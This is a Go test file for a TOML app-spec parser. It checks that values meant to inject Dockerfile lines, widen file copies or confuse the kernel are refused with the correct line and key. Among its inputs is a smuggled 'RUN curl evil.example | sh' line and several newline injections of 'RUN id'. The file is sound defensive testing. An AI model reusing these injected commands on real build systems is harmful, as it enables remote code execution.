package spec

import (
	"errors"
	"strings"
	"testing"
)

// TestHostileValuesRefused checks the values an attacker would write to
// inject Dockerfile lines through eject, copy more than asked, or confuse
// the kernel: each is refused at its line, with its key.
func TestHostileValuesRefused(t *testing.T) {
	for _, tt := range []struct {
		name, src string
		line      int
		key, want string
	}{
		{"newline in files", "[runtime]\nfiles = [\"cfg\\nRUN curl evil.example | sh\\nCOPY x\"]\n", 2, "runtime.files", "control character"},
		{"NUL in files", "[runtime]\nfiles = [\"a\\u0000b\"]\n", 2, "runtime.files", "control character"},
		{"newline in workdir", "[runtime]\nworkdir = \"/app\\nRUN id\"\n", 2, "runtime.workdir", "control character"},
		{"variable in workdir", "[runtime]\nworkdir = \"/app/$HOME\"\n", 2, "runtime.workdir", "WORKDIR"},
		{"newline in entrypoint", "entrypoint = \"./cmd/x\\nRUN id\"\n", 1, "entrypoint", "control character"},
		{"star in files", "[runtime]\nfiles = [\"conf/*.yaml\"]\n", 2, "runtime.files", "pattern"},
		{"question mark in files", "[runtime]\nfiles = [\"a?b\"]\n", 2, "runtime.files", "pattern"},
		{"bracket in files", "[runtime]\nfiles = [\"[ab]\"]\n", 2, "runtime.files", "pattern"},
		{"variable in files", "[runtime]\nfiles = [\"$HOME\"]\n", 2, "runtime.files", "variable"},
		{"backslash in files", "[runtime]\nfiles = ['a\\b']\n", 2, "runtime.files", "pattern"},
		{"the whole context", "[runtime]\n\nfiles = [\"./\"]\n", 3, "runtime.files", "whole build context"},
		{"newline in an env value", "[runtime.env]\nA = \"x\\nRUN id\"\n", 2, "runtime.env.A", "one line"},
		{"NUL in a build env value", "[build.env]\nA = \"x\\u0000\"\n", 2, "build.env.A", "one line"},
		{"newline in a label value", "[labels]\nx = \"1\\n2\"\n", 2, "labels.x", "one line"},
		{"newline in a label name", "[labels]\n\"a\\nb\" = \"1\"\n", 2, "labels.a\nb", "label name"},
		{"= in a label name", "[labels]\n\"a=b\" = \"1\"\n", 2, "labels.a=b", "\"=\""},
		{"uid -1", "[runtime]\nuser = \"4294967295\"\n", 2, "runtime.user", "(uid_t)-1"},
		{"gid -1", "[runtime]\nuser = \"1000:4294967295\"\n", 2, "runtime.user", "(uid_t)-1"},
		{"NUL in an argument", "[runtime]\nargs = [\"-a\", \"b\\u0000c\"]\n", 2, "runtime.args", "NUL"},
		{"NUL in the probe", "[runtime.healthcheck]\ncmd = [\"/app/x\\u0000\"]\n", 2, "runtime.healthcheck.cmd", "NUL"},
		{"a long name", "name = \"" + strings.Repeat("a", 129) + "\"\n", 1, "name", "keep it to 128"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			_, err := Parse("app.toml", []byte(tt.src))
			var list *Errors
			if !errors.As(err, &list) {
				t.Fatalf("accepted, or not an *Errors: %v", err)
			}
			for _, e := range *list {
				if e.Key == tt.key && e.Line == tt.line && strings.Contains(e.Msg, tt.want) {
					return
				}
			}
			t.Errorf("want an error at line %d about %s saying %q; got:\n%v", tt.line, tt.key, tt.want, err)
		})
	}
}

// TestPlainValuesAccepted checks that the refusals above leave ordinary
// values alone: spaces in files and labels, tabs nowhere near, a uid of
// 2^32-2, a name of the longest length.
func TestPlainValuesAccepted(t *testing.T) {
	src := "name = \"" + strings.Repeat("a", 128) + "\"\n" +
		"[runtime]\nuser = \"4294967294\"\nworkdir = \"/srv/my app\"\nfiles = [\"static files/a b.css\", \"config\"]\n" +
		"[labels]\n\"org.opencontainers.image.description\" = \"An app: it's \\\"fine\\\"\"\n"
	s, err := Parse("app.toml", []byte(src))
	if err != nil {
		t.Fatal(err)
	}
	if s.Runtime.User != "4294967294:4294967294" || s.Runtime.Workdir != "/srv/my app" || len(s.Runtime.Files) != 2 {
		t.Errorf("user %q, workdir %q, files %q", s.Runtime.User, s.Runtime.Workdir, s.Runtime.Files)
	}
}
